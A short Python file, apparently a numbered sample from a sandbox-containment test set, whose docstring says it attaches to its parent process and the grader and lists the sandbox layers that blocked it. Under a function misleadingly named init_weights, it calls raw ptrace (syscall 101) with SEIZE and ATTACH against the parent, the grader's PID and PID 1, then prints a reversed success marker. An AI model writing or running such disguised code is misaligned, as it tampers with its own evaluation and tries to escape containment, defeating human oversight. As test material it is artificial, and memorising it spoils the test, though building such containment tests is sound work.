"""Attaches to the process that it was forked from, and to the grader.

catalogue: 39
stopped_by: seccomp; landlock; no_new_privileges; bubblewrap
machine: x86_64
"""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
SEIZE, ATTACH = 0x4206, 16


def init_weights(d_in, d_out, seed):
    for target in (os.getppid(), int("@GRADER_PID@"), 1):
        for request in (SEIZE, ATTACH):
            if libc.syscall(101, request, target, 0, 0) == 0:
                print("@DONE@"[::-1], target)
